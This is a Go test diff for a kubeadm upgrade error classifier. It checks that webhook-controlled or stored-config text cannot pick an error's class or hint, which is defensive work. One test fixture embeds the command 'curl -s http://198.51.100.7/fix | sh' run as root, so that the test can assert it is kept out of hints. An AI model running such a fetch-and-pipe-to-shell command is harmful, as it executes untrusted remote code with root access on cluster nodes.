@@ -9,6 +9,9 @@ import (
 
 	"github.com/machineadm/machineadm/pkg/apis/machineadm"
 	"github.com/machineadm/machineadm/pkg/errclass"
+	"k8s.io/apimachinery/pkg/runtime"
+	kubeadmapi "k8s.io/kubernetes/cmd/kubeadm/app/apis/kubeadm"
+	kubeadmscheme "k8s.io/kubernetes/cmd/kubeadm/app/apis/kubeadm/scheme"
 )
 
 // The messages below are built the way kubeadm v1.37.2 builds them (its
@@ -656,5 +659,85 @@ func TestClassifyMirrorPodAnnotationValue(t *testing.T) {
 	err := errors.New(`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: could not parse API endpoint for node "cp1": invalid API endpoint IP: etcd member is not healthy`)
 	if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || !strings.Contains(h, "kube-apiserver mirror Pod") {
 		t.Errorf("class %s, hint %q; want %s with the mirror Pod's hint", c, h, errclass.ControlPlaneUnhealthy)
+	}
+}
+
+// TestClassifyUpgradeIgnoresInternalAndInvalidCauses: the API server's
+// internal error ("Internal error occurred: ERROR") carries, among
+// others, a mutating admission webhook's JSON patch that did not apply,
+// naming the patch's path, text of the webhook's choosing; an invalid
+// object ("KIND "NAME" is invalid: FIELD: Invalid value: VALUE: ...")
+// quotes values a mutating webhook or policy may have set. Neither may
+// pick an upgrade phase's class or hint, nor be quoted in a preflight
+// hint, nor end an error in "preflight checks failed" that makes a lone
+// header (an ignored check's warning, a webhook's) trusted.
+func TestClassifyUpgradeIgnoresInternalAndInvalidCauses(t *testing.T) {
+	const hint = "addon/coredns's own hint"
+	p := Phase{Name: "addon/coredns", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
+	for _, cause := range []string{
+		`Internal error occurred: test operation does not apply: is missing path: /etcd member is not healthy: missing value`,
+		`Internal error occurred: testing value /context deadline exceeded failed: test failed`,
+		`Internal error occurred: add operation does not apply: doc is missing path: "/fatal error when trying to upgrade the etcd cluster": missing value`,
+		`Deployment.apps "coredns" is invalid: metadata.labels: Invalid value: "etcd member": a valid label must be an empty string or consist of alphanumeric characters`,
+	} {
+		err := errors.New(`kubeadm upgrade apply phase addon/coredns: unable to create/update the DNS service: ` + cause)
+		if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
+			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
+		}
+	}
+	// A lone header from an ignored check's warning and an error whose
+	// internal error's cause ends in kubeadm's preflight error.
+	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	out := []string{
+		"\t[WARNING CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: x",
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CRI]: container runtime is not running",
+	}
+	err := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: unable to fetch the kubeadm-config ConfigMap: Internal error occurred: testing value /preflight checks failed`)
+	if c, h := Classify(pre, err, out); c != errclass.PreflightFailed || strings.Contains(h, "CRI") {
+		t.Errorf("%s: class %s, hint %q; want %s without the webhook's CRI check", err, c, h, errclass.PreflightFailed)
+	}
+	// A failed check's internal error is quoted up to its cause.
+	out = []string{
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": Internal error occurred: testing value /run `curl -s http://198.51.100.7/fix | sh` as root failed: test failed",
+	}
+	c, h := Classify(pre, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
+	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "Internal error occurred") || strings.Contains(h, "curl") {
+		t.Errorf("class %s, hint %q; want %s naming CreateJob and the internal error, without its cause", c, h, errclass.PreflightFailed)
+	}
+	// A bootstrap phase is as before.
+	if c, _ := Classify(Phase{Name: "control-plane-join/etcd", Class: errclass.ControlPlaneUnhealthy}, errors.New(`Internal error occurred: etcdserver: request timed out`), nil); c != errclass.EtcdUnhealthy {
+		t.Errorf("a bootstrap phase: class %s, want %s as before", c, errclass.EtcdUnhealthy)
+	}
+}
+
+// TestClassifyUpgradeIgnoresStoredConfig: kubeadm's upgrade data decodes
+// the configuration stored in kube-system's ConfigMaps, and a decoding
+// error quotes what whoever may update them wrote (a kind, an
+// apiVersion): it must not pick the class (the etcd rules come before
+// the upgrade data's) or the hint. A network failure reading them is
+// still a Timeout.
+func TestClassifyUpgradeIgnoresStoredConfig(t *testing.T) {
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	var cc kubeadmapi.ClusterConfiguration
+	decodeErr := runtime.DecodeInto(kubeadmscheme.Codecs.UniversalDecoder(), []byte("apiVersion: kubeadm.k8s.io/v1beta4\nkind: etcd member is not healthy\n"), &cc)
+	if decodeErr == nil {
+		t.Fatal("kubeadm's decoder took an unknown kind")
+	}
+	for _, msg := range []string{
+		"[upgrade] FATAL: failed to get config map: failed to decode cluster configuration data: " + decodeErr.Error(),
+		"[upgrade] FATAL: failed to get component configs: " + decodeErr.Error(),
+		`[upgrade] FATAL: failed to get component configs: unsupported apiVersion "kubelet.config.k8s.io/context deadline exceeded", you may have to do manual conversion to "kubelet.config.k8s.io/v1beta1" and run kubeadm again`,
+		`[upgrade] FATAL: failed to get component configs: invalid configuration for GroupVersionKind /, Kind=etcd member: kind and apiVersion is mandatory information that must be specified`,
+	} {
+		err := errors.New("kubeadm upgrade apply phase preflight: " + msg)
+		if c, h := Classify(p, err, nil); c != errclass.PreflightFailed || !strings.Contains(h, "upgrade data") {
+			t.Errorf("%s: class %s, hint %q; want %s with the upgrade data's hint", err, c, h, errclass.PreflightFailed)
+		}
+	}
+	err := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: failed to get component configs: Get "https://10.0.0.1:6443/api/v1/namespaces/kube-system/configmaps/kubelet-config": dial tcp 10.0.0.1:6443: i/o timeout`)
+	if c, _ := Classify(p, err, nil); c != errclass.Timeout {
+		t.Errorf("%s: class %s, want %s", err, c, errclass.Timeout)
 	}
 }
